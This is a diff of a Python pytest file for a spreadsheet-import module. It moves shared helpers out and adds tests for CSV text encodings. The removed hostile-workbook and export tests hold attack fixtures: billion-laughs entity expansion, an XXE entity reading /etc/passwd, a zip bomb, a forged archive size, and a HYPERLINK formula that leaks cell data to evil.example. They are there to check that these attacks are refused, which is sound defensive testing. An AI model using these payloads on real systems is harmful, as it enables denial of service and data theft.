@@ -1,4 +1,7 @@
-"""app.spreadsheets: real files written to tmp_path and read back, including hostile ones."""
+"""app.spreadsheets: real files written to tmp_path and read back (formats, limits, values).
+
+Hostile workbooks are in test_spreadsheets_hostile.py, writing in test_exports.py.
+"""
 
 from __future__ import annotations
 
@@ -6,74 +9,20 @@ import csv
 import datetime as dt
 import io
 import time
-import zipfile
-from collections.abc import Callable
-from pathlib import Path
-from typing import Any
 
-import openpyxl
 import pytest
 
-from app import spreadsheets, xlsx_stream
-from app.exports import FORMULA_PREFIXES, neutralise, write_csv, write_xlsx
-from app.spreadsheets import (
-    SpreadsheetError,
-    check_xlsx_archive,
-    detect_format,
-    open_table,
+from app import spreadsheets
+from app.spreadsheets import SpreadsheetError, detect_format, open_table
+from tests.app.sheets import (
+    COLUMNS,
+    MAIN_NS,
+    build_xlsx,
+    read,
+    sheet_xml,
+    write_book,
+    write_text,
 )
-
-COLUMNS = ("external_id", "name", "country", "workers", "audited_on")
-MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
-SST_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
-
-
-def sheet_xml(rows: str, *, head: str = "", prolog: str = "") -> str:
-    return (f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet xmlns="{MAIN_NS}">'
-            f"{head}<sheetData>{rows}</sheetData></worksheet>")
-
-
-def build_xlsx(path: Path, sheet: str, strings: str | None = None,
-               edits: dict[str, Callable[[str], str]] | None = None) -> Path:
-    """A package framed by openpyxl (content types, relationships, styles with style 1 a date)
-    whose sheet, shared strings and any other part we write ourselves, hostile if need be."""
-    frame = openpyxl.Workbook()
-    frame.active["A1"] = dt.datetime(2024, 1, 1)
-    buffer = io.BytesIO()
-    frame.save(buffer)
-    with zipfile.ZipFile(buffer) as source:
-        members = {name: source.read(name).decode() for name in source.namelist()}
-    override = f'<Override PartName="/xl/sharedStrings.xml" ContentType="{SST_TYPE}"/>'
-    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
-        "</Types>", override + "</Types>")
-    members["xl/worksheets/sheet1.xml"] = sheet
-    members["xl/sharedStrings.xml"] = strings or f'<sst xmlns="{MAIN_NS}" count="0"/>'
-    for name, edit in (edits or {}).items():
-        members[name] = edit(members[name])
-    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
-        for name, text in members.items():
-            archive.writestr(name, text)
-    return path
-
-
-def write_book(path: Path, rows: list[list[object]]) -> Path:
-    workbook = openpyxl.Workbook()
-    for row in rows:
-        workbook.active.append(row)
-    workbook.save(path)
-    return path
-
-
-def write_text(path: Path, text: str, encoding: str = "utf-8") -> Path:
-    path.write_bytes(text.encode(encoding))
-    return path
-
-
-def read(path: Path, filename: str | None = None, columns=COLUMNS, **kw):
-    """(table, [rows]) with the rows fully consumed, so the file is closed."""
-    table = open_table(path, filename or path.name, columns, **kw)
-    return table, list(table.rows)
-
 
 # --- format detection -------------------------------------------------------------------------
 
@@ -274,184 +223,6 @@ def test_html_in_names_is_preserved_verbatim(tmp_path):
     assert got == [(2, {"name": name})]
 
 
-# --- hostile workbooks ------------------------------------------------------------------------
-
-def test_sparse_sheet_with_cells_in_column_xfd_is_cheap(tmp_path):
-    workbook = openpyxl.Workbook()
-    sheet = workbook.active
-    sheet.append(["name", "country"])
-    for row in range(2, 3002):
-        sheet.cell(row=row, column=1, value=f"Supplier {row}")
-        sheet.cell(row=row, column=2, value="CN")
-        sheet.cell(row=row, column=16384, value="far away")  # column XFD
-    workbook.save(tmp_path / "sparse.xlsx")
-    started = time.perf_counter()
-    table, rows = read(tmp_path / "sparse.xlsx")
-    assert time.perf_counter() - started < 3
-    assert table.unknown_columns == []
-    assert len(rows) == 3000
-    assert rows[-1] == (3001, {"name": "Supplier 3001", "country": "CN"})
-
-
-@pytest.mark.parametrize("ref", ["A1:XFD1048576", "A1:A1"])
-def test_forged_dimension_is_ignored(tmp_path, ref):
-    rows = "".join(f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>{v}</t></is></c></row>'
-                   for r, v in ((1, "name"), (2, "Acme"), (3, "Beta"), (4, "Gamma")))
-    path = build_xlsx(tmp_path / "s.xlsx", sheet_xml(rows, head=f'<dimension ref="{ref}"/>'))
-    started = time.perf_counter()
-    _, got = read(path)
-    assert time.perf_counter() - started < 1
-    assert [v["name"] for _, v in got] == ["Acme", "Beta", "Gamma"]
-
-
-def test_far_row_number_is_not_padded(tmp_path):
-    rows = ('<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c></row>'
-            '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>Acme</t></is></c></row>')
-    started = time.perf_counter()
-    _, got = read(build_xlsx(tmp_path / "s.xlsx", sheet_xml(rows)))
-    assert time.perf_counter() - started < 1
-    assert got == [(1048576, {"name": "Acme"})]
-
-
-# lol9 expands to 10**9 "lol"s.
-def test_rows_beyond_the_spreadsheet_limit_are_refused_even_when_blank(tmp_path, monkeypatch):
-    monkeypatch.setattr(spreadsheets, "MAX_SHEET_ROWS", 50)
-    rows = '<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c></row>' + "<row/>" * 60
-    table = open_table(build_xlsx(tmp_path / "s.xlsx", sheet_xml(rows)), "s.xlsx", COLUMNS)
-    with pytest.raises(SpreadsheetError, match="more than 50 rows, the most a spreadsheet"):
-        list(table.rows)
-    table = open_table(write_text(tmp_path / "s.csv", "name\n" + "\n" * 60 + "Acme\n"), "s.csv",
-                       COLUMNS)
-    with pytest.raises(SpreadsheetError, match="more than 50 rows, the most a spreadsheet"):
-        list(table.rows)
-
-
-def test_shared_string_table_is_capped(tmp_path, monkeypatch):
-    monkeypatch.setattr(xlsx_stream, "MAX_SHARED_STRINGS", 3)
-    strings = f'<sst xmlns="{MAIN_NS}">' + "<si><t>x</t></si>" * 4 + "</sst>"
-    path = build_xlsx(tmp_path / "s.xlsx", sheet_xml(""), strings)
-    with pytest.raises(SpreadsheetError, match="more than 3 different texts"):
-        open_table(path, "s.xlsx", COLUMNS)
-    build_xlsx(path, sheet_xml('<row r="1"><c r="A1" t="s"><v>2</v></c></row>'),
-               strings.replace("<si><t>x</t></si>", "", 1))
-    table, _ = read(path)
-    assert table.unknown_columns == ["x"]
-
-
-BILLION_LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "' + "&lol;" * 10 + '">'
-                  + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(2, 10))
-                  + "]>")
-
-
-@pytest.mark.parametrize("part", ["sheet", "strings", "workbook", "xxe"])
-def test_entity_attacks_are_refused(tmp_path, part):
-    cell = '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
-    kwargs: dict[str, Any] = {}
-    sheet = sheet_xml(cell.replace("&lol9;", "name"))
-    if part == "sheet":
-        sheet = sheet_xml(cell, prolog=BILLION_LAUGHS)
-    elif part == "strings":
-        kwargs["strings"] = (f'<?xml version="1.0"?>{BILLION_LAUGHS}<sst xmlns="{MAIN_NS}">'
-                             "<si><t>&lol9;</t></si></sst>")
-    elif part == "workbook":
-        kwargs["edits"] = {"xl/workbook.xml": lambda old: old.replace(
-            "<workbook", BILLION_LAUGHS + "<workbook", 1)}
-    else:
-        sheet = sheet_xml(cell.replace("&lol9;", "&xxe;"),
-                          prolog='<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')
-    path = build_xlsx(tmp_path / "s.xlsx", sheet, **kwargs)
-    with pytest.raises(SpreadsheetError) as info:
-        read(path)
-    assert info.value.status == 422
-    assert "refused for safety" in info.value.message
-
-
-def test_zip_bomb_is_refused_before_any_xml_parser(tmp_path, monkeypatch):
-    path = tmp_path / "bomb.xlsx"
-    row = b'<row><c t="inlineStr"><is><t>' + b"A" * 40 + b"</t></is></c></row>"
-    block = row * (1024 * 1024 // len(row))
-    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
-        archive.writestr("[Content_Types].xml", "<Types/>")
-        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
-            member.write(f'<worksheet xmlns="{MAIN_NS}"><sheetData>'.encode())
-            for _ in range(200):  # ~200 MB of XML, streamed through the compressor
-                member.write(block)
-            member.write(b"</sheetData></worksheet>")
-    assert path.stat().st_size < 2 * 1024 * 1024
-    monkeypatch.setattr(xlsx_stream, "ExcelReader", pytest.fail)  # must never be reached
-    with pytest.raises(SpreadsheetError, match=r"expands [\d,]+ times when unzipped") as info:
-        open_table(path, "bomb.xlsx", COLUMNS)
-    assert (info.value.status, info.value.code) == (422, "archive_too_large")
-
-
-def test_declared_size_over_the_limit_is_refused(tmp_path):
-    path = write_book(tmp_path / "s.xlsx", [["name"], ["Acme"]])
-    data = bytearray(path.read_bytes())
-    entry = data.find(b"PK\x01\x02")  # first central-directory entry: forge its size
-    data[entry + 24:entry + 28] = (0xF0000000).to_bytes(4, "little")
-    path.write_bytes(bytes(data))
-    with pytest.raises(SpreadsheetError, match=r"^The workbook expands to 3\.8 GB when unzipped; "
-                                               r"the limit is 500 MB\.$"):
-        check_xlsx_archive(path)
-
-
-def test_too_many_archive_members_is_refused(tmp_path):
-    path = tmp_path / "many.xlsx"
-    with zipfile.ZipFile(path, "w") as archive:
-        archive.writestr("[Content_Types].xml", "<Types/>")
-        for i in range(1001):
-            archive.writestr(f"xl/media/{i}.bin", b"x")
-    with pytest.raises(SpreadsheetError, match="1,002 parts; the limit is 1,000"):
-        check_xlsx_archive(path)
-
-
-def test_zip_that_is_not_a_workbook_is_refused(tmp_path):
-    path = tmp_path / "photos.xlsx"
-    with zipfile.ZipFile(path, "w") as archive:
-        archive.writestr("photo.txt", "hello")
-    with pytest.raises(SpreadsheetError, match="not an Excel workbook") as info:
-        open_table(path, "photos.xlsx", COLUMNS)
-    assert info.value.status == 415
-
-
-@pytest.mark.parametrize("damage", ["garbage", "truncated", "crc", "xml", "missing_sheet"])
-def test_corrupt_workbooks_become_spreadsheet_errors(tmp_path, damage):
-    path = write_book(tmp_path / "s.xlsx", [["name", "country"]]
-                      + [[f"Supplier {i}", "CN"] for i in range(2000)])
-    data = path.read_bytes()
-    if damage == "garbage":
-        path.write_bytes(b"PK\x03\x04" + bytes(range(256)) * 40)
-    elif damage == "truncated":
-        path.write_bytes(data[: len(data) // 2])
-    elif damage == "crc":  # flip bytes inside the compressed sheet: zlib or CRC error, lazily
-        with zipfile.ZipFile(path) as archive:
-            info = archive.getinfo("xl/worksheets/sheet1.xml")
-        start = info.header_offset + 30 + len(info.filename) + len(info.extra)
-        middle = start + info.compress_size // 2
-        path.write_bytes(data[:middle] + bytes(b ^ 0x55 for b in data[middle:middle + 64])
-                         + data[middle + 64:])
-    elif damage == "xml":
-        build_xlsx(path, sheet_xml('<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c>'
-                                   '</row><row r="2"><c r="A2"><v>12</c></row>'))
-    else:
-        build_xlsx(path, sheet_xml(""), edits={"xl/_rels/workbook.xml.rels": lambda old: (
-            old.replace("worksheets/sheet1.xml", "worksheets/missing.xml"))})
-    with pytest.raises(SpreadsheetError) as info:
-        read(path)
-    assert info.value.status == 422
-    assert "Open it in Excel and save it again as .xlsx." in info.value.message or \
-        "no worksheet" in info.value.message
-
-
-def test_closing_an_unread_table_releases_the_file(tmp_path):
-    path = write_book(tmp_path / "s.xlsx", [["name"], ["Acme"]])
-    with open_table(path, "s.xlsx", COLUMNS) as table:
-        assert table.columns == ["name"]
-    # pytest turns an unclosed file's ResourceWarning into an error, so a leak fails here too
-    table = open_table(write_text(tmp_path / "s.csv", "name\nAcme\n"), "s.csv", COLUMNS)
-    table.close()
-
-
 # --- CSV --------------------------------------------------------------------------------------
 
 @pytest.mark.parametrize(("encoding", "delimiter"), [
@@ -492,57 +263,53 @@ def test_csv_with_an_oversized_field_is_a_spreadsheet_error(tmp_path):
         list(table.rows)
 
 
-# --- writing ----------------------------------------------------------------------------------
+# --- CSV text encodings (issue 6: GBK was stored as mojibake) --------------------------------
 
-@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
-def test_neutralise_each_formula_prefix(prefix):
-    assert neutralise(f"{prefix}SUM(A1:A9)") == f"'{prefix}SUM(A1:A9)"
-
-
-@pytest.mark.parametrize("value", ["Acme = Co", "a+b", "", None, 12, -3, 1.5,
-                                   dt.date(2024, 1, 1), "'=already"])
-def test_neutralise_leaves_other_values(value):
-    assert neutralise(value) == value
-
-
-def test_formula_text_round_trips_as_text_through_xlsx(tmp_path):
-    evil = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'
-    path = tmp_path / "export.xlsx"
-    write_xlsx(path, [
-        ("Suppliers", ["name", "workers", "audited_on", "note"],
-         iter([[evil, 1200, dt.datetime(2024, 3, 1), "#N/A"], ["-3", -3, None, "@SUM(1)"],
-               ["<b>Fish & Co</b>", 1.5, dt.date(2024, 1, 2), "bell\x07 tab\tinside"]])),
-        ("Column help", ["column", "help"], [["name", "Required."]]),
-    ])
-    workbook = openpyxl.load_workbook(path)
-    sheet = workbook["Suppliers"]
-    assert [c.value for c in sheet[1]] == ["name", "workers", "audited_on", "note"]
-    assert all(c.font.b for c in sheet[1]) and sheet.freeze_panes == "A2"
-    assert sheet.column_dimensions["A"].width >= len(evil)
-    name, workers, audited, note = sheet[2]
-    assert (name.data_type, name.value) == ("s", "'" + evil)
-    assert (workers.data_type, workers.value) == ("n", 1200)
-    assert audited.is_date and audited.value == dt.datetime(2024, 3, 1)
-    assert (note.data_type, note.value) == ("s", "#N/A")
-    assert [(c.data_type, c.value) for c in sheet[3]] == [
-        ("s", "'-3"), ("n", -3), ("n", None), ("s", "'@SUM(1)")]
-    assert sheet["A4"].value == "<b>Fish & Co</b>" and sheet["D4"].value == "bell tab\tinside"
-    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
-    assert workbook["Column help"]["B2"].value == "Required."
-    workbook.close()
-    _, rows = read(path, columns=("name", "workers"))
-    assert rows[0] == (2, {"name": "'" + evil, "workers": 1200})
+@pytest.mark.parametrize(("encoding", "name", "address"), [
+    ("gbk", "上海纺织有限公司", "上海市浦东新区张江路88号"),
+    ("big5", "台灣紡織股份有限公司", "台北市信義區"),
+    ("shift_jis", "東京繊維株式会社", "東京都中央区日本橋"),
+    ("cp1252", "Société Ivoirienne de Cacao – Müller & Søn", "Rue de l'Église à Abidjan"),
+    ("utf-8-sig", "上海纺织有限公司 – Société", "Zürich"),
+    ("utf-8", "Öztürk Tekstil", "İstanbul"),
+])
+def test_csv_in_legacy_encodings_is_decoded_correctly(tmp_path, encoding, name, address):
+    text = f"name,country,address\n{name},CN,{address}\nSecond Mill,VN,Hanoi\n"
+    path = write_text(tmp_path / "s.csv", text, encoding)
+    _, rows = read(path, columns=("name", "country", "address"))
+    assert rows[0] == (2, {"name": name, "country": "CN", "address": address})
 
 
-def test_formula_text_is_neutralised_in_csv():
-    buffer = io.StringIO()
-    write_csv(buffer, ["name", "workers"],
-              [["=HYPERLINK(\"http://evil\")", 3], ["\tcmd", None], ["+1", -3], ["Acme", 1.5]])
-    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
-        ["name", "workers"], ["'=HYPERLINK(\"http://evil\")", "3"], ["'\tcmd", ""],
-        ["'+1", "-3"], ["Acme", "1.5"]]
+@pytest.mark.parametrize("content", [
+    b"name,country\n\xc4\xe3,CN\n",  # one character: GBK, Big5 or Windows-1252 alike
+    "name,country\n纺织,CN\n".encode("gbk"),  # two: GBK or Big5
+])
+def test_csv_of_undecidable_encoding_is_refused_naming_the_accepted_ones(tmp_path, content):
+    (tmp_path / "s.csv").write_bytes(content)
+    with pytest.raises(SpreadsheetError) as info:
+        open_table(tmp_path / "s.csv", "s.csv", COLUMNS)
+    message = info.value.message
+    assert (info.value.status, info.value.code) == (422, "unknown_encoding")
+    assert "could not be recognised with confidence" in message
+    for accepted in ("UTF-8", "Windows-1252", "GBK", "Big5", "Shift-JIS"):
+        assert accepted in message
+    assert "CSV UTF-8" in message
 
 
-def test_write_xlsx_needs_a_sheet():
-    with pytest.raises(ValueError, match="at least one sheet"):
-        write_xlsx(io.BytesIO(), [])
+def test_csv_in_no_accepted_encoding_is_refused(tmp_path):
+    # Bytes undefined in Windows-1252 and in every accepted Asian encoding.
+    (tmp_path / "s.csv").write_bytes(b"name,country\n" + b"\x81 \x8d\xff\x90 \x9d\xfe,CN\n" * 3)
+    with pytest.raises(SpreadsheetError, match="not in a text encoding we accept") as info:
+        open_table(tmp_path / "s.csv", "s.csv", COLUMNS)
+    assert info.value.code == "unknown_encoding"
+
+
+def test_csv_encoding_is_found_from_non_ascii_lines_far_into_a_big_file(tmp_path):
+    padding = "".join(f"Supplier {i},VN,Hanoi\n" for i in range(80_000))  # about 2 MB of ASCII
+    text = f"name,country,address\n{padding}上海纺织有限公司,CN,上海市浦东新区\n"
+    path = write_text(tmp_path / "s.csv", text, "gbk")
+    started = time.perf_counter()
+    _, rows = read(path, columns=("name", "country", "address"))
+    assert time.perf_counter() - started < 5
+    assert rows[-1] == (80_002, {"name": "上海纺织有限公司", "country": "CN",
+                                 "address": "上海市浦东新区"})
